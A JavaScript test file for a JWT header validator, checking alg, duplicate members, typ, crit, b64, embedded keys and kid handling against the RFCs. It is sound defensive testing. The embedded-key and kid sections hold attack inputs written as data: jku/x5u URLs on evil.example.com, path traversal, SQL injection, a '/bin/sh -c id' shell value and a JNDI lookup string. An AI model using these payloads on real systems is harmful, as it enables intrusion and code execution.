// RFC 7515 §4, RFC 7797, RFC 8725 §3.11: the header, what it must be, and what it must never do.
import { suite } from "./corpus.mjs";
import { jwk, privateJwk, set } from "./keys.mjs";
import { base64url, CLAIMS, ISSUER } from "./token.mjs";

const { accept, refuse } = suite("header");
const HEADER = "RFC 7515 §4";

// An object.
accept("object/only-alg", HEADER, { header: '{"alg":"ES256"}' });
for (const [name, text] of Object.entries({
	null: "null",
	true: "true",
	number: "1",
	string: '"ES256"',
	"empty-string": '""',
	array: "[]",
	"array-of-header": '[{"alg":"ES256"}]',
	"array-alg": '["alg","ES256"]',
}))
	refuse(`object/is-${name}`, "header_invalid", HEADER, { header: text });
refuse("object/empty", "alg_missing", "RFC 7515 §4.1.1", { header: "{}" });

// alg
const ALG = "RFC 7515 §4.1.1";
refuse("alg/missing", "alg_missing", ALG, { header: { alg: undefined } });
for (const [name, text] of Object.entries({
	null: "null",
	true: "true",
	number: "256",
	array: '["ES256"]',
	object: '{"alg":"ES256"}',
	"empty-array": "[]",
}))
	refuse(`alg/is-${name}`, "header_invalid", ALG, { header: `{"alg":${text},"kid":"es256"}` });
refuse("alg/only-in-__proto__", "alg_missing", ALG, { header: '{"__proto__":{"alg":"ES256"},"kid":"es256"}' });
refuse("alg/only-in-constructor", "alg_missing", ALG, {
	header: '{"constructor":{"prototype":{"alg":"ES256"}},"kid":"es256"}',
});
refuse("alg/only-nested", "alg_missing", ALG, { header: '{"header":{"alg":"ES256"},"kid":"es256"}' });
for (const name of ["ALG", "Alg", "alg ", " alg", "alg\0", "algorithm", "\u0430lg"])
	refuse(`alg/named-${JSON.stringify(name).slice(1, -1)}`, "alg_missing", ALG, {
		header: { alg: undefined, [name]: "ES256" },
	});
accept("alg/name-escaped", "RFC 8259 §8.3", { header: '{"\\u0061l\\u0067":"ES256","kid":"es256"}' });
accept("alg/value-escaped", "RFC 8259 §8.3", { header: '{"alg":"\\u0045\\u0053256","kid":"es256"}' });
accept("alg/beside-ALG", ALG, { header: { ALG: "none", Alg: "HS256" } });
accept("alg/__proto__-names-none", ALG, { header: '{"alg":"ES256","kid":"es256","__proto__":{"alg":"none"}}' });
accept("alg/last-member", HEADER, { header: '{"typ":"JWT","kid":"es256","alg":"ES256"}' });
refuse("alg/in-payload-only", "alg_missing", ALG, { header: { alg: undefined }, payload: { alg: "ES256" } });

// Registered members of a wrong type.
for (const [member, rfc] of Object.entries({ kid: "RFC 7515 §4.1.4", typ: "RFC 7515 §4.1.9", cty: "RFC 7515 §4.1.10" }))
	for (const [name, text] of Object.entries({
		null: "null",
		true: "true",
		number: "1",
		zero: "0",
		array: '["es256"]',
		"empty-array": "[]",
		object: '{"es256":1}',
	}))
		refuse(`types/${member}-is-${name}`, "header_invalid", rfc, {
			header: `{"alg":"ES256",${member === "kid" ? "" : '"kid":"es256",'}"${member}":${text}}`,
		});
accept("types/cty-any-string", "RFC 7515 §4.1.10", { header: { cty: 'application/example;part="1/2"' } });
accept("types/unknown-members-of-any-type", HEADER, { header: { a: null, b: [1, { c: true }], d: 1.5, "": "" } });
accept("types/unknown-member-too-large", HEADER, { header: '{"alg":"ES256","kid":"es256","x":1e400}' });

// Duplicates, compared after unescaping.
const DUPLICATE = "RFC 7515 §4";
const duplicate = (name, header, more) =>
	refuse(`duplicates/${name}`, "json_duplicate_member", DUPLICATE, { header, ...more });
duplicate("alg-same", '{"alg":"ES256","alg":"ES256","kid":"es256"}');
duplicate("alg-none-first", '{"alg":"none","alg":"ES256","kid":"es256"}');
duplicate("alg-none-last", '{"alg":"ES256","alg":"none","kid":"es256"}');
duplicate("alg-escaped-second", '{"alg":"ES256","\\u0061lg":"none","kid":"es256"}');
duplicate("alg-escaped-first", '{"\\u0061lg":"none","alg":"ES256","kid":"es256"}');
duplicate("alg-escaped-in-capitals", '{"alg":"ES256","\\u0061\\u006C\\u0067":"ES256","kid":"es256"}');
duplicate("alg-apart", '{"alg":"ES256","kid":"es256","typ":"JWT","x":1,"alg":"ES256"}');
duplicate("kid", '{"alg":"ES256","kid":"es256","kid":"es256-b"}', { keys: "set-two" });
duplicate("kid-escaped", '{"alg":"ES256","kid":"es256","k\\u0069d":"es256-b"}', { keys: "set-two" });
duplicate("typ", '{"alg":"ES256","kid":"es256","typ":"JWT","typ":"JWT"}');
duplicate("crit", '{"alg":"ES256","kid":"es256","crit":["x"],"crit":["x"],"x":1}', { policy: { crit: ["x"] } });
duplicate("b64", '{"alg":"ES256","kid":"es256","b64":true,"b64":true}');
duplicate("unread-member", '{"alg":"ES256","kid":"es256","x":1,"x":2}');
duplicate("empty-name", '{"alg":"ES256","kid":"es256","":1,"":2}');
duplicate("nested", '{"alg":"ES256","kid":"es256","x":{"y":1,"y":2}}');
duplicate("nested-in-array", '{"alg":"ES256","kid":"es256","x":[[{"y":1,"y":2}]]}');
duplicate("nested-in-jwk", '{"alg":"ES256","kid":"es256","jwk":{"kty":"EC","kty":"RSA"}}');
duplicate("__proto__", '{"alg":"ES256","kid":"es256","__proto__":1,"__proto__":2}');
duplicate("surrogate-pair-escaped", '{"alg":"ES256","kid":"es256","\u{1f600}":1,"\\ud83d\\ude00":2}');
duplicate("slash-escaped", '{"alg":"ES256","kid":"es256","a/b":1,"a\\/b":2}');
accept("duplicates/none-same-name-at-other-depths", DUPLICATE, {
	header: '{"alg":"ES256","kid":"es256","x":{"alg":"none","kid":"a"},"y":[{"x":1},{"x":2}]}',
});
accept("duplicates/none-names-differ-in-case", DUPLICATE, { header: '{"alg":"ES256","kid":"es256","x":1,"X":2}' });
accept("duplicates/none-names-differ-in-normal-form", DUPLICATE, {
	header: '{"alg":"ES256","kid":"es256","\u00e9":1,"e\u0301":2}',
});

// typ, by option. Media types are compared without case, with or without application/ (§4.1.9).
const TYP = "RFC 7515 §4.1.9";
const wanted = (typ) => ({ policy: { typ } });
for (const typ of ["JWT", "jwt", "Jwt", "application/jwt", "APPLICATION/JWT", "application/JWT"]) {
	accept(`typ/JWT-wanted-${typ}`, TYP, { header: { typ }, ...wanted("JWT") });
	accept(`typ/${typ}-wanted-as-JWT`, TYP, { header: { typ: "JWT" }, ...wanted(typ) });
}
for (const typ of ["at+jwt", "AT+JWT", "application/at+jwt", "Application/At+Jwt"])
	accept(`typ/at+jwt-wanted-${typ}`, "RFC 8725 §3.11", { header: { typ }, ...wanted("at+jwt") });
for (const typ of ["secevent+jwt", "example;part=1", "example/x"])
	accept(`typ/own-${typ}`, TYP, { header: { typ }, ...wanted(typ) });
for (const typ of [
	undefined,
	"",
	"JWT ",
	" JWT",
	"JW",
	"JWTS",
	"at+jwt",
	"jwt+at",
	"text/jwt",
	"application/",
	"application/application/jwt",
	"application/x/jwt",
	"JWT,at+jwt",
	"*",
	"*/*",
	"JWT\0",
])
	refuse(
		`typ/JWT-wanted-${typ === undefined ? "absent" : JSON.stringify(typ).slice(1, -1)}`,
		"typ_mismatch",
		"RFC 8725 §3.11",
		{ header: { typ }, ...wanted("JWT") },
	);
for (const typ of [
	undefined,
	"JWT",
	"at",
	"at-jwt",
	"at+jwt+x",
	"at+jwt;v=1",
	"xat+jwt",
	"id+jwt",
	"example/at+jwt",
	"logout+jwt",
])
	refuse(`typ/at+jwt-wanted-${typ === undefined ? "absent" : typ}`, "typ_mismatch", "RFC 8725 §3.11", {
		header: { typ },
		...wanted("at+jwt"),
	});
for (const typ of [undefined, "JWT", "jwt", "at+jwt", "logout+jwt", "anything", ""])
	accept(`typ/nothing-wanted-${typ === undefined ? "absent" : typ || "empty"}`, TYP, { header: { typ } });
refuse("typ/in-payload-only", "typ_mismatch", "RFC 8725 §3.11", {
	header: { typ: undefined },
	payload: { typ: "at+jwt" },
	...wanted("at+jwt"),
});

// crit
const CRIT = "RFC 7515 §4.1.11";
const EXTENSION = "https://example.com/extension";
const invalid = (name, header, policy) => refuse(`crit/${name}`, "crit_invalid", CRIT, { header, policy });
for (const [name, crit] of Object.entries({
	null: null,
	true: true,
	number: 1,
	string: EXTENSION,
	"empty-string": "",
	object: { [EXTENSION]: true },
	"empty-object": {},
})) {
	invalid(`is-${name}`, { crit, [EXTENSION]: 1 });
	invalid(`is-${name}-though-understood`, { crit, [EXTENSION]: 1 }, { crit: [EXTENSION] });
}
invalid("empty", { crit: [] });
invalid("empty-though-something-is-understood", { crit: [], [EXTENSION]: 1 }, { crit: [EXTENSION] });
invalid("duplicate", { crit: [EXTENSION, EXTENSION], [EXTENSION]: 1 }, { crit: [EXTENSION] });
for (const [name, value] of Object.entries({ null: null, number: 1, true: true, array: [EXTENSION], object: {} }))
	invalid(`holds-${name}`, { crit: [EXTENSION, value], [EXTENSION]: 1 }, { crit: [EXTENSION] });
invalid("holds-only-null", { crit: [null] });
for (const name of ["alg", "typ", "cty", "kid", "jku", "jwk", "x5u", "x5c", "x5t", "x5t#S256", "crit"]) {
	const value = { alg: "ES256", typ: "JWT", kid: "es256", crit: undefined, x5c: ["AA"], jwk: {} }[name] ?? "x";
	const header = name === "crit" ? { crit: ["crit"] } : { crit: [name], [name]: value };
	invalid(`names-${name}`, header);
	invalid(`names-${name}-though-listed-by-the-policy`, header, { crit: [name] });
}
invalid("names-absent", { crit: [EXTENSION] }, { crit: [EXTENSION] });
invalid("names-absent-but-nested", { crit: [EXTENSION], x: { [EXTENSION]: 1 } }, { crit: [EXTENSION] });
invalid("names-absent-but-in-payload", { crit: ["exp"] }, { crit: ["exp"] });
for (const name of ["constructor", "__proto__", "toString", "hasOwnProperty"]) {
	invalid(`names-absent-${name}`, { crit: [name] }, { crit: [name] });
	accept(`crit/names-present-${name}`, CRIT, {
		header: `{"alg":"ES256","kid":"es256","crit":["${name}"],"${name}":1}`,
		policy: { crit: [name] },
	});
	refuse(`crit/names-present-${name}-not-understood`, "crit_unsupported", CRIT, {
		header: `{"alg":"ES256","kid":"es256","crit":["${name}"],"${name}":1}`,
	});
}
const unsupported = (name, header, policy) => refuse(`crit/${name}`, "crit_unsupported", CRIT, { header, policy });
unsupported("unknown", { crit: [EXTENSION], [EXTENSION]: 1 });
unsupported("unknown-among-understood", { crit: ["x", EXTENSION], x: 1, [EXTENSION]: 1 }, { crit: ["x"] });
unsupported("unknown-in-other-case", { crit: ["X"], X: 1 }, { crit: ["x"] });
unsupported("unknown-exp", { crit: ["exp"], exp: CLAIMS.exp });
unsupported("unknown-empty-name", { crit: [""], "": 1 });
unsupported("unknown-value-null", { crit: [EXTENSION], [EXTENSION]: null });
accept("crit/understood", CRIT, { header: { crit: [EXTENSION], [EXTENSION]: 1 }, policy: { crit: [EXTENSION] } });
accept("crit/understood-two", CRIT, {
	header: { crit: ["x", EXTENSION], x: 1, [EXTENSION]: { any: "value" } },
	policy: { crit: [EXTENSION, "x", "y"] },
});
accept("crit/understood-value-null", CRIT, {
	header: { crit: [EXTENSION], [EXTENSION]: null },
	policy: { crit: [EXTENSION] },
});
accept("crit/absent", CRIT, { policy: { crit: [EXTENSION] } });
accept("crit/extension-present-not-critical", CRIT, { header: { [EXTENSION]: 1 } });
accept("crit/in-payload-is-a-claim", CRIT, { payload: { crit: ["nothing"] } });

// b64 (RFC 7797 §7: never in a JWT)
const B64 = "RFC 7797 §7";
refuse("b64/false-critical", "b64_unsupported", B64, {
	header: { b64: false, crit: ["b64"] },
	policy: { crit: ["b64"] },
});
refuse("b64/false-not-critical", "b64_unsupported", B64, { header: { b64: false } });
refuse("b64/false-unencoded", "base64url_invalid", B64, {
	header: { b64: false, crit: ["b64"] },
	segments: (head) => [head, JSON.stringify(CLAIMS).replaceAll(".", "")],
	policy: { crit: ["b64"] },
});
refuse("b64/false-critical-not-listed-by-the-policy", "b64_unsupported", B64, {
	header: { b64: false, crit: ["b64"] },
});
accept("b64/true-critical", "RFC 7797 §6", { header: { b64: true, crit: ["b64"] } });
accept("b64/true-not-critical", "RFC 7797 §3", { header: { b64: true } });
for (const [name, value] of Object.entries({
	null: null,
	zero: 0,
	"string-false": "false",
	"string-true": "true",
	"empty-array": [],
}))
	refuse(`b64/is-${name}`, "header_invalid", "RFC 7797 §3", { header: { b64: value } });

// Keys in the header are never used.
const FOLLOWED = "RFC 8725 §3.10";
const attacker = jwk("es256-b", { kid: undefined });
const byAttacker = (header, more) => ({
	key: "es256-b",
	header: { kid: undefined, ...header },
	keys: "es256",
	...more,
});
const certificate = "MIIBszCCAVmgAwIBAgIUAAAA";
const EMBEDDED = {
	jwk: { jwk: attacker },
	"jwk-with-trusted-kid": { jwk: { ...attacker, kid: "es256" }, kid: "es256" },
	jku: { jku: "https://evil.example.com/jwks.json" },
	"jku-data": { jku: `data:application/json,${encodeURIComponent(JSON.stringify({ keys: [attacker] }))}` },
	x5u: { x5u: "https://evil.example.com/certificate.pem" },
	x5c: { x5c: [certificate] },
	x5t: { x5t: base64url(Buffer.alloc(20, 1)) },
	"x5t#S256": { "x5t#S256": base64url(Buffer.alloc(32, 1)) },
	everything: {
		jwk: attacker,
		jku: "https://evil.example.com/jwks.json",
		x5u: "https://evil.example.com/c.pem",
		x5c: [certificate],
	},
};
for (const [name, header] of Object.entries(EMBEDDED)) {
	refuse(`embedded/${name}-by-attacker`, "signature_invalid", FOLLOWED, byAttacker(header));
	refuse(
		`embedded/${name}-by-attacker-with-own-kid`,
		"key_not_found",
		FOLLOWED,
		byAttacker({ ...header, kid: "es256-b" }),
	);
	accept(`embedded/${name}-ignored`, FOLLOWED, { header: { ...header, kid: "es256" } });
}
refuse("embedded/symmetric-jwk", "alg_not_allowed", FOLLOWED, {
	key: "hs256",
	header: { kid: undefined, jwk: privateJwk("hs256") },
	keys: "es256",
});
refuse("embedded/symmetric-jwk-though-allowed", "key_unsuitable", FOLLOWED, {
	key: "hs256",
	header: { kid: undefined, jwk: privateJwk("hs256") },
	keys: "es256",
	policy: { algorithms: ["ES256", "HS256"] },
});
accept("embedded/trusted-jwk-is-not-needed", FOLLOWED, { header: { jwk: jwk("es256") } });

// kid is compared, and nothing else.
const KID = "RFC 7515 §4.1.4";
const kids = {
	path: "../../../../../../dev/null",
	"path-of-key": "/etc/ssl/es256.pem",
	sql: "es256' UNION SELECT 'secret';--",
	shell: "|/bin/sh -c id",
	template: "\u0024{jndi:ldap://evil.example.com/a}",
	url: "https://evil.example.com/es256",
	nul: "es256\0",
	"nul-first": "\0es256",
	"space-after": "es256 ",
	"space-before": " es256",
	capitals: "ES256",
	empty: "",
	prefix: "es25",
	longer: "es2566",
	star: "*",
	regexp: ".*",
	index: "0",
	proto: "__proto__",
	constructor: "constructor",
	"full-width": "ｅｓ256",
	newline: "es256\n",
	long: "k".repeat(300),
};
for (const [name, kid] of Object.entries(kids)) {
	refuse(`kid/${name}-unknown`, "key_not_found", KID, { header: { kid } });
	accept(`kid/${name}-known`, KID, { header: { kid }, keys: jwk("es256", { kid }) });
}
refuse("kid/normal-form-differs", "key_not_found", KID, {
	header: { kid: "cle\u0301" },
	keys: jwk("es256", { kid: "cl\u00e9" }),
});
accept("kid/unicode", KID, {
	header: { kid: "cl\u00e9-\u{1f511}" },
	keys: jwk("es256", { kid: "cl\u00e9-\u{1f511}" }),
});
accept("kid/escaped", KID, { header: '{"alg":"ES256","kid":"\\u0065s256"}' });

// Hidden in the unread parts of the header.
accept("unread/kid-only-in-__proto__", KID, { header: '{"alg":"ES256","__proto__":{"kid":"unknown"}}' });
refuse("unread/crit-only-escaped", "crit_unsupported", CRIT, {
	header: '{"alg":"ES256","kid":"es256","cr\\u0069t":["x"],"x":1}',
});
refuse("unread/b64-escaped", "b64_unsupported", B64, { header: '{"alg":"ES256","kid":"es256","b\\u00364":false}' });
accept("unread/iss-in-header", "RFC 7519 §5.3", { header: { iss: ISSUER, aud: "x", sub: "y" } });
refuse("unread/signed-with-member-added-later", "signature_invalid", "RFC 7515 §5.2", {
	after: (token) =>
		[base64url(JSON.stringify({ alg: "ES256", typ: "JWT", kid: "es256", x: 1 })), ...token.split(".").slice(1)].join(
			".",
		),
});
accept("set/kid-picks-second", "RFC 7517 §4.5", { key: "es256-b", keys: set("es256", "es256-b") });
